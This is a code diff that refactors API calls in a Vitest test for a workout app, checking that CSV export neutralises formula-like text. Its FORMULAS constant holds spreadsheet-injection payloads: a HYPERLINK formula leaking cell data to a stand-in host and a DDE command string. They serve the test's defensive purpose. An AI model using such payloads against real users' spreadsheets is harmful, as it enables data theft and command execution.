@@ -8,15 +8,14 @@ import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { Exercise } from '../../shared/api-types';
 import type { ExportedWorkout } from '../../shared/data-transfer/workout-export';
-import type { ImportWorkoutsResult } from '../../shared/data-transfer/workout-import';
 import { workoutsToCsv } from '../../web/src/features/data-transfer/lib/export-files';
 import { parseImportFile } from '../../web/src/features/data-transfer/lib/parse-import-file';
-import { call, signUp } from '../support/api';
+import { api, signUp } from '../support/api';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/leak?d="&A2,"Open")', '+SUM(1,2)', '-2+3+cmd|\'/C calc\'!A0', '@SUM(A1:A9)'];
 
 async function exported(token: string): Promise<ExportedWorkout[]> {
-  const page = await call<ExportedWorkout[]>('GET', '/api/workout-export?limit=20', { token });
+  const page = await api('GET /api/workout-export', { query: { limit: 20 }, token });
   expect(page.status, JSON.stringify(page.body)).toBe(200);
   return page.body;
 }
@@ -26,11 +25,11 @@ describe('CSV export: formula-like text is neutralised, and reads back as typed'
     const me = await signUp();
     const exercises: Exercise[] = [];
     for (const name of FORMULAS) {
-      const created = await call<Exercise>('POST', '/api/exercises', { token: me.token, body: { name, category: 'Chest', equipment: 'Barbell' } });
+      const created = await api('POST /api/exercises', { token: me.token, body: { name, category: 'Chest', equipment: 'Barbell' } });
       expect(created.status, JSON.stringify(created.body)).toBe(201);
       exercises.push(created.body);
     }
-    const logged = await call('POST', '/api/workout-sessions/completed', {
+    const logged = await api('POST /api/workout-sessions/completed', {
       token: me.token,
       body: {
         name: '=1+1',
@@ -58,7 +57,7 @@ describe('CSV export: formula-like text is neutralised, and reads back as typed'
 
     // The same file into another account: its custom exercises get the names as they were typed.
     const other = await signUp();
-    const imported = await call<ImportWorkoutsResult>('POST', '/api/workout-imports', { token: other.token, body: { workouts: back.workouts } });
+    const imported = await api('POST /api/workout-imports', { token: other.token, untypedBody: { workouts: back.workouts } });
     expect(imported.status, JSON.stringify(imported.body)).toBe(200);
     expect(imported.body).toMatchObject({ imported: 1, refused: 0 });
     expect([...imported.body.createdExercises].sort()).toEqual([...FORMULAS].sort());
